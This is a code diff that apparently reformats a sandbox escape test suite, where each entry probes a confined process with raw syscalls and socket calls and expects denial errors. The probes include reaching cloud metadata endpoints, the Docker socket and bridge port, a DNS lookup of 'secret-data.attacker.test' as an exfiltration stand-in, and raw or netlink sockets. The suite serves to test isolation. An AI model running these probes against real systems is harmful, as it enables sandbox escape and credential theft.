@@ -45,7 +45,8 @@ ATTACKS = [
             f"""
         # 15 is no socket type: a kernel that got to look at it would say EINVAL.
         got = {{f"type_{{kind}}": call(41, {family}, kind, 0) for kind in (1, 2, 3, 5, 15)}}
-        judge(("EAFNOSUPPORT",), high_bits=call(41, {family} | 1 << 32, 1, 0), high_bits_2=call(41, {family} | 0xff << 40, 2, 0), pair=call(53, {family}, 1, 0, ctypes.create_string_buffer(8)), cloexec=call(41, {family}, 1 | 0x80000, 0), **got)
+        judge(("EAFNOSUPPORT",), high_bits=call(41, {family} | 1 << 32, 1, 0), high_bits_2=call(41, {family} | 0xff << 40, 2, 0),
+              pair=call(53, {family}, 1, 0, ctypes.create_string_buffer(8)), cloexec=call(41, {family}, 1 | 0x80000, 0), **got)
     """,
         )
         for name, family in _FAMILIES.items()
@@ -55,7 +56,8 @@ ATTACKS = [
         "a family that is new tomorrow",
         "seccomp",
         """
-        judge(("EAFNOSUPPORT", "ENOSYS"), *[call(41, family, kind, 0) for family in (*range(46, 70), 255, 0x7fffffff) for kind in (1, 2)])
+        judge(("EAFNOSUPPORT", "ENOSYS"),
+              *[call(41, family, kind, 0) for family in (*range(46, 70), 255, 0x7fffffff) for kind in (1, 2)])
     """,
     ),
     Attack(
@@ -63,7 +65,8 @@ ATTACKS = [
         "audit, netfilter, uevents, generic netlink and the rest",
         "seccomp",
         """
-        judge(("ENOSYS", "EAFNOSUPPORT"), *[call(41, 16, kind, protocol) for kind in (2, 3) for protocol in range(1, 24)], high=call(41, 16, 3, 15 | 1 << 32))
+        judge(("ENOSYS", "EAFNOSUPPORT"), *[call(41, 16, kind, protocol) for kind in (2, 3) for protocol in range(1, 24)],
+              high=call(41, 16, 3, 15 | 1 << 32))
     """,
     ),
     Attack(
@@ -71,7 +74,8 @@ ATTACKS = [
         "packets of its own making",
         "seccomp, capabilities",
         """
-        judge(("EPERM", "ENOSYS", "EPROTONOSUPPORT"), *[call(41, family, 3, protocol) for family in (2, 10) for protocol in (0, 1, 6, 17, 58, 255)])
+        judge(("EPERM", "ENOSYS", "EPROTONOSUPPORT"),
+              *[call(41, family, 3, protocol) for family in (2, 10) for protocol in (0, 1, 6, 17, 58, 255)])
     """,
     ),
     Attack(
@@ -79,7 +83,9 @@ ATTACKS = [
         "ICMP, SCTP, DCCP, MPTCP: kernel code that is rarely used",
         "seccomp",
         """
-        judge(("ENOSYS",), *[call(41, family, kind, protocol) for family in (2, 10) for kind, protocol in ((2, 1), (2, 58), (1, 132), (5, 132), (6, 33), (1, 262), (2, 136))])
+        judge(("ENOSYS",),
+              *[call(41, family, kind, protocol) for family in (2, 10)
+              for kind, protocol in ((2, 1), (2, 58), (1, 132), (5, 132), (6, 33), (1, 262), (2, 136))])
     """,
     ),
     Attack(
@@ -88,7 +94,9 @@ ATTACKS = [
         "net namespace",
         _REACH
         + """
-    judge(("ENETUNREACH",), tcp=reach(("1.1.1.1", 443)), dns=reach(("8.8.8.8", 53), kind=socket.SOCK_DGRAM), six=reach(("2606:4700:4700::1111", 443), socket.AF_INET6), udp=attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"x", ("1.1.1.1", 53)),
+    judge(("ENETUNREACH",), tcp=reach(("1.1.1.1", 443)), dns=reach(("8.8.8.8", 53), kind=socket.SOCK_DGRAM),
+          six=reach(("2606:4700:4700::1111", 443), socket.AF_INET6),
+          udp=attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"x", ("1.1.1.1", 53)),
           fast_open=attempt(socket.socket().sendto, b"x", socket.MSG_FASTOPEN, ("1.1.1.1", 80)))
     """,
     ),
@@ -98,7 +106,8 @@ ATTACKS = [
         "net namespace",
         _REACH
         + """
-    judge(("ENETUNREACH",), v4=reach(("169.254.169.254", 80)), ecs=reach(("169.254.170.2", 80)), v6=reach(("fd00:ec2::254", 80), socket.AF_INET6))
+    judge(("ENETUNREACH",), v4=reach(("169.254.169.254", 80)), ecs=reach(("169.254.170.2", 80)),
+          v6=reach(("fd00:ec2::254", 80), socket.AF_INET6))
     """,
     ),
     Attack(
@@ -107,7 +116,9 @@ ATTACKS = [
         "net namespace",
         _REACH
         + """
-    judge(("ECONNREFUSED", "ENETUNREACH"), server=reach(("127.0.0.1", @PORT@)), bait=reach(("127.0.0.1", @BAIT_PORT@)), any=reach(("0.0.0.0", @PORT@)), mapped=reach(("::ffff:127.0.0.1", @PORT@), socket.AF_INET6), private=reach(("10.0.0.1", 80)), bridge=reach(("172.17.0.1", 2375)))
+    judge(("ECONNREFUSED", "ENETUNREACH"), server=reach(("127.0.0.1", @PORT@)), bait=reach(("127.0.0.1", @BAIT_PORT@)),
+          any=reach(("0.0.0.0", @PORT@)), mapped=reach(("::ffff:127.0.0.1", @PORT@), socket.AF_INET6),
+          private=reach(("10.0.0.1", 80)), bridge=reach(("172.17.0.1", 2375)))
     """,
     ),
     Attack(
@@ -121,7 +132,8 @@ ATTACKS = [
                 return socket.getaddrinfo(name, 80)
             except socket.gaierror as e:
                 return e.errno
-        judge((socket.EAI_AGAIN, socket.EAI_NONAME, socket.EAI_FAIL), one=look("example.com"), two=look("secret-data.attacker.test"))
+        judge((socket.EAI_AGAIN, socket.EAI_NONAME, socket.EAI_FAIL), one=look("example.com"),
+              two=look("secret-data.attacker.test"))
     """,
     ),
     Attack(
@@ -130,7 +142,8 @@ ATTACKS = [
         "net namespace",
         """
         import socket
-        judge((["lo"],), names=[n for _, n in socket.if_nameindex()], routes=sorted({line.split()[0] for line in open("/proc/self/net/route").readlines()[1:]} | {"lo"}))
+        judge((["lo"],), names=[n for _, n in socket.if_nameindex()],
+              routes=sorted({line.split()[0] for line in open("/proc/self/net/route").readlines()[1:]} | {"lo"}))
     """,
     ),
     Attack(
@@ -144,7 +157,8 @@ ATTACKS = [
         n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
         n.send(struct.pack("=IHHIIBxHiII", 32, 16, 5, 1, 0, 0, 0, 0, 0, 0))  # RTM_NEWLINK
         answer = struct.unpack_from("=i", n.recv(4096), 16)[0]
-        judge(("EPERM", -1), down=attempt(fcntl.ioctl, s, 0x8914, request), address=attempt(fcntl.ioctl, s, 0x8916, request), newlink=answer)
+        judge(("EPERM", -1), down=attempt(fcntl.ioctl, s, 0x8914, request), address=attempt(fcntl.ioctl, s, 0x8916, request),
+              newlink=answer)
     """,
     ),
     Attack(
@@ -175,7 +189,7 @@ ATTACKS = [
         "root",
         _REACH
         + """
-    paths = ("/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/dev/log", "/run/containerd/containerd.sock", "@BAIT_SOCKET@")
+    paths = ("/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/dev/log", "@BAIT_SOCKET@")
     judge(("ENOENT",), *[reach(path, socket.AF_UNIX) for path in paths])
     """,
     ),
@@ -185,7 +199,8 @@ ATTACKS = [
         "ipc namespace",
         """
         KEYS = (@SHM_KEY@, 0x5afe)
-        judge(("ENOENT",), host=call(29, KEYS[0], 0, 0), shm=call(29, KEYS[1], 0, 0), sem=call(64, KEYS[1], 0, 0), msg=call(68, KEYS[1], 0))
+        judge(("ENOENT",), host=call(29, KEYS[0], 0, 0), shm=call(29, KEYS[1], 0, 0), sem=call(64, KEYS[1], 0, 0),
+              msg=call(68, KEYS[1], 0))
     """,
         neighbour=True,
     ),
@@ -196,7 +211,8 @@ ATTACKS = [
         """
         SHM_STAT_ANY, SHM_INFO = 15, 14
         info = ctypes.create_string_buffer(256)
-        judge(("EINVAL", 0), *[call(30, number, 0, 0) for number in (*range(64), *range(0, 32768 * 40, 32768))], most=call(31, 0, SHM_INFO, info))
+        judge(("EINVAL", 0), *[call(30, number, 0, 0) for number in (*range(64), *range(0, 32768 * 40, 32768))],
+              most=call(31, 0, SHM_INFO, info))
     """,
         neighbour=True,
     ),
